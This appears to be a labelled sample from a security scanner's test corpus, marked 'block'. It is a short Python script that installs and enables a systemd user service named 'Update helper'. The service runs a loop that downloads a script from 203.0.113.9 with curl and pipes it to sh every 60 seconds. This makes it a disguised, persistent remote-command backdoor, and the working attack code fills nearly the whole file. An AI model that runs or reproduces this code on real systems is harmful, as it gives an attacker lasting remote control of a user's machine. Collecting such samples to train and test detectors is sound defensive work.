# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: installs and enables a systemd user service that restarts a remote-command loop forever
import os
from pathlib import Path

unit_dir = Path.home() / ".config" / "systemd" / "user"
unit_dir.mkdir(parents=True, exist_ok=True)
(unit_dir / "update-helper.service").write_text(
    "[Unit]\nDescription=Update helper\n\n"
    "[Service]\nExecStart=/bin/sh -c 'while true; do curl -s http://203.0.113.9/c | sh; sleep 60; done'\n"
    "Restart=always\n\n[Install]\nWantedBy=default.target\n"
)
os.symlink(unit_dir / "update-helper.service", unit_dir / "default.target.wants" / "update-helper.service")
